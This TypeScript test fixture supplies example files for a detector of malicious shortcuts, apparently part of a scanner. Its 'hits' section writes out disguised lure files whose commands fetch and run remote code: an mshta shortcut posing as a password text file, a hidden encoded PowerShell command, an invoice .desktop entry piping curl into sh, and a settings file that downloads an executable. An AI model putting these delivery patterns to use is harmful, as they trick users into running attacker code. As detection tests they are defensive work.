import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";
import { makeShortcut, writeShortcutText } from "../example-shortcuts.ts";

/** Shortcuts whose command lines fetch or hide, and shortcuts to programs and sites. */
export const examples: Examples = {
  hits: [
    {
      name: "a password's text that opens an address with the system's own tool",
      delivered: true,
      files: {
        "Password.txt.lnk": makeShortcut({
          path: "..\\..\\Windows\\System32\\mshta.exe",
          args: "https://files.example/p",
          icon: "%SystemRoot%\\System32\\imageres.dll",
          iconIndex: 97,
        }),
      },
    },
    {
      name: "a shortcut in an archive that runs an encoded command",
      delivered: true,
      files: {
        "order.zip": makeZip([
          {
            name: "Order.lnk",
            content: writeShortcutText({
              path: "..\\Windows\\System32\\cmd.exe",
              args: `/c powershell -w hidden -enc ${"QQBB".repeat(20)}`,
            }),
          },
        ]),
      },
    },
    {
      name: "an entry of a Linux desktop that fetches a script",
      delivered: true,
      files: {
        "Invoice.desktop":
          "[Desktop Entry]\nType=Application\nName=Invoice\nIcon=application-pdf\nExec=sh -c 'curl -s https://files.example/i | sh'\n",
      },
    },
    {
      name: "a setting of Windows whose link is a command",
      delivered: true,
      files: {
        "Camera.settingcontent-ms":
          '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c curl https://files.example/c -o c.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
      },
    },
  ],
  misses: [
    {
      name: "a shortcut to a folder on a share",
      why: "It opens a folder and starts nothing.",
      delivered: true,
      files: { "Team.lnk": makeShortcut({ share: "\\\\fileserver\\team", onShare: "plans" }) },
    },
    {
      name: "a favourite of a browser",
      why: "It opens a page.",
      delivered: true,
      files: { "Docs.url": "[InternetShortcut]\r\nURL=https://docs.example/\r\n" },
    },
    {
      name: "a shortcut to a page that a department made with the command interpreter",
      why: "The browser opens the page, and nothing is fetched to be run.",
      delivered: true,
      files: {
        "Intranet.lnk": makeShortcut({
          path: "..\\..\\Windows\\System32\\cmd.exe",
          args: "/c start https://intranet.example/",
        }),
      },
    },
    {
      name: "a shortcut to an installed program",
      why: "It starts a program that is on the computer, with a file.",
      delivered: true,
      files: { "Plan.lnk": makeShortcut({ path: "..\\Program Files\\Editor\\editor.exe", args: "plan.txt" }) },
    },
    {
      name: "an entry of a Linux desktop for a browser",
      why: "A browser shows the page.",
      delivered: true,
      files: { "Docs.desktop": "[Desktop Entry]\nType=Application\nExec=firefox https://docs.example/\n" },
    },
  ],
  evasions: [
    {
      name: "the program beside the shortcut in the archive",
      caughtBy: "file/delivered-script",
      delivered: true,
      files: {
        "order.zip": makeZip([
          { name: "Order.lnk", content: writeShortcutText({ path: "cmd.exe", args: "/c data\\run.cmd" }) },
          { name: "data/run.cmd", content: "@echo off\r\necho one\r\n" },
        ]),
      },
    },
  ],
};
